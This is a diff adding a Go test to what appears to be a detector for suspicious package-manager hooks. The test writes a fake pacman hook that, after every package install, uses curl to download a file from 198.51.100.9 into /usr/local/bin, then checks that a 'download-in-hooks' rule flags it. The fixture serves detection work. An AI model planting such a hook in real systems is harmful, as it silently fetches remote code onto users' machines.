@@ -200,3 +200,22 @@ func ownedCopy(t *testing.T, root string) string {
 	}
 	return dir
 }
+
+// TestPacmanExecDownloads: a pacman hook whose program is the downloader
+// (Exec is argv, no shell) is found by download-in-hooks as a hook
+// whose command line says curl is: the exec column is a JSON array, where
+// "curl" is followed by a quote, not a space.
+func TestPacmanExecDownloads(t *testing.T) {
+	root := t.TempDir()
+	hook := filepath.Join(root, "usr/share/libalpm/hooks/zz.hook")
+	if err := os.MkdirAll(filepath.Dir(hook), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(hook, []byte("[Trigger]\nOperation = Install\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/curl -so /usr/local/bin/x http://198.51.100.9/x\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	got := detect(t, root, []string{"manager", "command"}, "download-in-hooks")["download-in-hooks"]
+	if want := []string{"pacman /usr/bin/curl -so /usr/local/bin/x http://198.51.100.9/x"}; !slices.Equal(got, want) {
+		t.Errorf("download-in-hooks: %q, want %q", got, want)
+	}
+}
